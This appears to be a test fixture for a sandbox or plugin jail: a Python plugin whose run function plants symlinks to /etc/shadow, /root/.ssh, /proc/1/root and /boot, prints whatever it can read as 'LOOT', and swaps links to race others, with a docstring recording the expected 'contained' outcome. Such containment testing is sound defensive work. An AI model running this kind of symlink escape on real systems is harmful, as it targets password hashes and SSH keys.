"""Keeps a copy of its result.

[corpus]
tries = "plants links that lead out of its scratch folder, and swaps them while others look"
inputs = [{value = 9}]
outputs = [9]
expected = "contained"
outcomes = ["ok"]
quarantine = false
why = "links in its own /tmp are its own affair: nobody outside follows them, and what they point to is not in the jail"
"""

import os


def run(payload, context):
    for number, target in enumerate(["/etc/shadow", "/proc/1/root/root", "/../../../root/.ssh", "/plugin/../../boot"]):
        link = f"/tmp/copy{number}"
        os.symlink(target, link)
        try:
            print("LOOT", target, os.listdir(link) if os.path.isdir(link) else open(link).read())
        except OSError:
            continue
        finally:
            os.replace(link, "/tmp/latest")
    return payload["value"]
